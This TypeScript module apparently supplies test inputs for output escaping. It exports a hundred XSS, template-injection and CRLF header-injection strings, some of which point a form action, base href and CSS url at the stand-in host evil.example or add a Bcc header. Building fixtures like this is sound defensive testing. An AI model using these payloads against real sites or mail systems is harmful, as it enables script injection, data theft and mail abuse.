/** What ends the place that a text may stand in: an attribute, an element, a comment, a script, a template. */
const endings = ['', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '&quot;&gt;']

/** What would be an element, or an attribute, if it were believed. */
const elements = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '<svg/onload=alert(3)>',
  '<iframe srcdoc="<script>parent.alert(4)</script>">',
  '<a href="javascript:alert(5)">here</a>',
  '<base href=//evil.example><form action=//evil.example><input>',
  '<style>*{background:url(//evil.example)}</style>',
  '" onfocus=alert(6) autofocus x="',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(7)&gt;">',
]

const others = [
  'javascript:alert(8)//',
  'data:text/html,<script>alert(9)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a template would run.
  '{{constructor.constructor("alert(10)")()}} ${alert(11)} <%= 7 * 7 %>',
  '&lt;script&gt;alert(12)&lt;/script&gt; &#60;b&#62;',
  '[here](javascript:alert(13)) ![x](x) **b** `c` # d',
  '$& $1 $` %s %0d%0aSet-Cookie:x=y',
  '=?utf-8?q?=0d=0aBcc:_b@evil.example?=',
  '＜img src=x onerror=alert(14)＞ ‹b› ʺ',
  '<!DOCTYPE html><!--[if IE]><b>',
  '\\u003cimg src=x onerror=alert(15)\\u003e \\x3cb\\x3e',
]

/** A hundred texts that are HTML, scripts, addresses or templates to whoever believes them. Each is one line. */
export const hostileTexts = [...endings.flatMap((end) => elements.map((element) => `${end}${element}`)), ...others]

/** Texts that would begin another header, or a body, where a header is put together carelessly. */
export const hostileLines = ['\r\n', '\n', '\r', '\u2028', '\u0085'].map(
  (end) => `a${end}X-Injected: yes${end}Bcc: b@evil.example${end}${end}<b>body</b>`,
)
